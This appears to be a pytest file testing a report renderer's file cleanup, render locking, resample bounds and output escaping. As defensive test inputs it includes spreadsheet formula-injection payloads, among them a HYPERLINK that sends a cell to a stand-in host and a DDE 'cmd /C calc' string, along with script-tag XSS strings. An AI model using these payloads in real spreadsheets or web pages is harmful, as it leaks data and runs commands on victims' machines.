"""Issue 21, the report's side: a render deletes only what it wrote and still holds,
renders into one OUT take turns, bounded resamples and heatmaps, nothing executable in the
CSV, Markdown, HTML and LaTeX it writes. Most cases run on the functions; one real render."""

from __future__ import annotations

import csv
import fcntl
import hashlib
import json
import shutil
import threading
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from evalstats._csvsafe import FORMULA_STARTS  # private: the CSV formula neutraliser, directly
from evalstats._validate import (  # private: the shared resample bound, asserted directly
    MAX_RESAMPLES,
    check_n_resamples,
)
from evalstats.errors import ParameterError
from evalstats.plots import plot_task_heatmap
from evalstats.records import read_table_raw, write_frame_atomic
from evalstats.report import (
    REPORT_KINDS,
    ReportError,
    compute_results,
    headline_paragraph,
    render_report,
    result_sentences,
)
from evalstats.report._export import (  # private: hostile cells through the table writers directly
    latex_table,
    markdown_table,
)
from evalstats.report._html import page  # private: hostile cells through the table writers directly
from evalstats.report._kinds import (
    check_parameters,  # private: hostile cells through the table writers directly
)
from evalstats.report._results import (  # private: hostile cells through the table writers directly
    LOCK,
    MANIFEST,
    Results,
    clear_previous_outputs,
    is_report_file,
    render_lock,
)
from evalstats.report._untrusted import (  # private: the untrusted-text escaping, checked directly
    BIDI_CONTROLS,
    markdown_text,
    show_bidi,
)

# Integration (slow: make test runs it, make check does not): renders and rewrites whole reports.
pytestmark = pytest.mark.slow

SAMPLE = Path(__file__).resolve().parent.parent / "data" / "sample"
ATTACKS = ['=HYPERLINK("http://x/?"&A1, "y")', "+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "-x"]


def _sha(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


def _manifest(out: Path, hashes: dict[str, str]) -> None:
    doc = {"format": "t", "files": sorted(hashes), "sha256": hashes}
    (out / MANIFEST).write_text(json.dumps(doc), encoding="utf-8")


# ------------------------------------------------------------------ item 1: what is removed


def test_report_files_are_the_report_layout_only():
    assert is_report_file("index.html") and is_report_file("results.json")
    assert is_report_file("figures/headline.svg") and is_report_file("tables/cost.csv")
    for rel in ("judgments.jsonl", "tasks.jsonl", "plan.toml", "truth.json", "arms.toml",
                "notes.md", "figures/x.jsonl", "data/runs.jsonl", "a/b/c.csv", "../x.html",
                MANIFEST, LOCK, "rubrics/mine.toml"):  # fmt: skip
        assert not is_report_file(rel), rel


def test_only_unchanged_listed_report_files_are_removed(tmp_path):
    out = tmp_path / "out"
    (out / "figures").mkdir(parents=True)
    files = {
        "figures/stale.svg": b"<svg/>",
        "figures/edited.svg": b"<svg>edited</svg>",
        "judgments.jsonl": b'{"a": 1}\n',
        "notes.md": b"mine\n",
        "index.html": b"<p>old</p>",
    }
    for rel, body in files.items():
        (out / rel).write_bytes(body)
    hashes = {rel: _sha(out / rel) for rel in files}
    hashes["figures/edited.svg"] = hashlib.sha256(b"<svg>as written</svg>").hexdigest()
    hashes["../outside.html"] = hashlib.sha256(b"x").hexdigest()
    (tmp_path / "outside.html").write_bytes(b"x")
    _manifest(out, hashes)
    clear_previous_outputs(out)
    assert not (out / "figures/stale.svg").exists() and not (out / "index.html").exists()
    for rel in ("figures/edited.svg", "judgments.jsonl", "notes.md"):
        assert (out / rel).read_bytes() == files[rel], rel
    assert (tmp_path / "outside.html").exists()


def test_a_manifest_without_hashes_removes_nothing(tmp_path):
    (tmp_path / "index.html").write_text("old")
    (tmp_path / MANIFEST).write_text(json.dumps({"files": ["index.html"]}))
    clear_previous_outputs(tmp_path)
    assert (tmp_path / "index.html").exists()


def test_a_data_directory_inside_out_is_never_removed(tmp_path):
    out = tmp_path / "out"
    data = out / "data"
    shutil.copytree(SAMPLE, data)
    (data / "index.html").write_text("a data file named like a page")
    _manifest(out, {"data/index.html": _sha(data / "index.html")})
    clear_previous_outputs(out, exclude=data)
    assert (data / "index.html").exists()


def test_out_equal_to_or_inside_the_data_directory_is_refused(tmp_path):
    data = shutil.copytree(SAMPLE, tmp_path / "data")
    before = {p.name: _sha(p) for p in data.iterdir()}
    for out in (data, data / "report", data / "." / "sub" / ".."):
        with pytest.raises(ReportError, match="must not be the data directory"):
            render_report(data, out)
    assert {p.name: _sha(p) for p in data.iterdir()} == before


def test_a_second_render_waits_then_fails_with_one_line(tmp_path):
    with render_lock(tmp_path, wait=0.0):
        with pytest.raises(ReportError, match="another render is writing") as err:
            with render_lock(tmp_path, wait=0.3):
                pass
        assert "\n" not in str(err.value)
    with render_lock(tmp_path, wait=0.0):  # released: free again
        pass


def test_a_waiting_render_goes_on_when_the_first_ends(tmp_path):
    held = open(tmp_path / LOCK, "w")
    fcntl.flock(held, fcntl.LOCK_EX)
    threading.Timer(0.3, held.close).start()
    with render_lock(tmp_path, wait=10.0):
        pass


def test_the_lock_wait_is_checked(tmp_path, monkeypatch):
    monkeypatch.setenv("EVALSTATS_REPORT_LOCK_WAIT_S", "nan")
    with pytest.raises(ReportError, match="lock wait"):
        render_report(SAMPLE, tmp_path / "out")


# ------------------------------------------------------------------ item 6: bounds


def test_n_resamples_is_bounded_everywhere():
    assert check_n_resamples(MAX_RESAMPLES) == MAX_RESAMPLES
    with pytest.raises(ParameterError, match="<= 1,000,000"):
        check_n_resamples(1e9)
    with pytest.raises(ParameterError, match="n_resamples"):
        check_parameters(REPORT_KINDS["evaluation"], {"n_resamples": MAX_RESAMPLES + 1})
    from evalstats.stats import BOOTSTRAP_METHODS, win_rates

    with pytest.raises(ParameterError, match="<= 1,000,000"):
        method = sorted(BOOTSTRAP_METHODS)[0]
        win_rates(_heat(5), method=method, n_resamples=10**9)


def _heat(n: int) -> pd.DataFrame:
    rng = np.random.default_rng(1)
    return pd.DataFrame(
        {
            "task_id": np.repeat([f"T{i:05d}" for i in range(n)], 2),
            "replicate": np.tile([1, 2], n),
            "judge": "j",
            "rubric": "r",
            "order": None,
            "status": "ok",
            "outcome": rng.choice(["win", "tie", "loss"], 2 * n),
        }
    )


def test_heatmap_shows_the_best_and_worst_tasks_with_a_note():
    frame = _heat(500)
    ax = plot_task_heatmap(frame).axes[0]
    assert ax.images[0].get_array().shape == (40, 2)
    assert "40 of 500 shown" in ax.get_ylabel().replace("\n", " ")
    nets = [float(t.get_text().rsplit("(", 1)[1].rstrip(")")) for t in ax.get_yticklabels()]
    score = frame["outcome"].map({"win": 1, "tie": 0, "loss": -1}).groupby(frame["task_id"])
    best, worst = score.mean().max(), score.mean().min()
    assert nets[0] == pytest.approx(best, abs=0.005) and nets[-1] == pytest.approx(worst, abs=0.005)
    assert nets == sorted(nets, reverse=True)
    assert plot_task_heatmap(_heat(30)).axes[0].images[0].get_array().shape == (30, 2)
    whole = plot_task_heatmap(frame, max_tasks=None).axes[0]
    assert whole.images[0].get_array().shape == (500, 2)
    with pytest.raises(ParameterError, match="max_tasks"):
        plot_task_heatmap(frame, max_tasks=1)


# ------------------------------------------------------------------ item 7: nothing runs


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [x for row in csv.reader(fh) for x in row]


def test_report_tables_and_frame_csv_are_neutralised(tmp_path):
    frame = pd.DataFrame({"task_id": [f"T{i}" for i in range(5)], "answer": ATTACKS})
    frame["score"] = [-0.5, 1.0, -2.0, 0.0, 3.0]
    Results({"attack": frame}, {}, {}, False).write_tables(tmp_path)
    written = write_frame_atomic(frame, tmp_path / "frame.csv")
    for path in (tmp_path / "tables" / "attack.csv", written):
        cells = _cells(path)
        assert not [c for c in cells if c[:1] in FORMULA_STARTS and c.lstrip("-")[:1] not in
                    "0123456789"]  # fmt: skip
        assert "-0.5" in cells  # numbers are not touched
    back = read_table_raw(written)[0]
    assert back["answer"].tolist() == ATTACKS  # read back as written


def test_markdown_and_sentences_escape_html():
    assert markdown_text("<script>x</script> p < 0.05 & R&D") == (
        "&lt;script>x&lt;/script> p < 0.05 & R&D"
    )
    md = markdown_table(pd.DataFrame({"judge": ["<script>alert(1)</script>"], "n": [1]}))
    assert "<script" not in md and "&lt;script>" in md
    doc = compute_results(SAMPLE, n_resamples=50, seed=0).to_json()
    doc["provenance"]["arm_names"] = {"with": "<script>a()</script>", "without": "<img src=x>"}
    text = headline_paragraph(doc) + " ".join(result_sentences(doc))
    assert "<script" not in text and "<img" not in text and "&lt;script>" in text


def test_bidi_controls_are_shown_in_pages_and_latex():
    every = "".join(BIDI_CONTROLS)
    assert show_bidi("a\u202eb") == "a[U+202E]b"
    html = page(f"t{every}", f"<p>answer {every}</p>", footer=every)
    tex = latex_table(pd.DataFrame({f"task{every}": [f"T{every}"], "n": [1]}))
    md = markdown_table(pd.DataFrame({"task": [every]}))
    for text in (html, tex, md):
        assert not set(text) & set(BIDI_CONTROLS)
    assert "[U+2066]" in html and "[U+200F]" in tex


# ------------------------------------------------------------------ one real render


@pytest.mark.slow
def test_rerender_beside_the_data_keeps_every_file_not_its_own(tmp_path):
    out = tmp_path / "out"
    data = shutil.copytree(SAMPLE, out / "data")
    (out / "figures").mkdir()
    keep = {"notes.md": b"mine\n", "figures/edited.svg": b"<svg>user</svg>"}
    for rel, body in keep.items():
        (out / rel).write_bytes(body)
    (out / "figures" / "stale.svg").write_bytes(b"<svg/>")
    journal = _sha(data / "judgments.jsonl")
    _manifest(
        out,
        {
            "figures/stale.svg": _sha(out / "figures" / "stale.svg"),
            "figures/edited.svg": hashlib.sha256(b"<svg>rendered</svg>").hexdigest(),
            "notes.md": _sha(out / "notes.md"),
            "data/judgments.jsonl": journal,
        },
    )
    render_report(data, out, params={"n_resamples": 40, "seed": 1}, figures="svg")
    assert not (out / "figures" / "stale.svg").exists()
    assert all((out / rel).read_bytes() == body for rel, body in keep.items())
    assert _sha(data / "judgments.jsonl") == journal
    listed = json.loads((out / MANIFEST).read_text())["sha256"]
    assert "index.html" in listed and "tables/headline.csv" in listed
    assert all(is_report_file(rel) and not rel.startswith("data/") for rel in listed)
    assert all(listed[rel] == _sha(out / rel) for rel in listed)
    assert not (out / LOCK).read_bytes()  # the lock file holds nothing
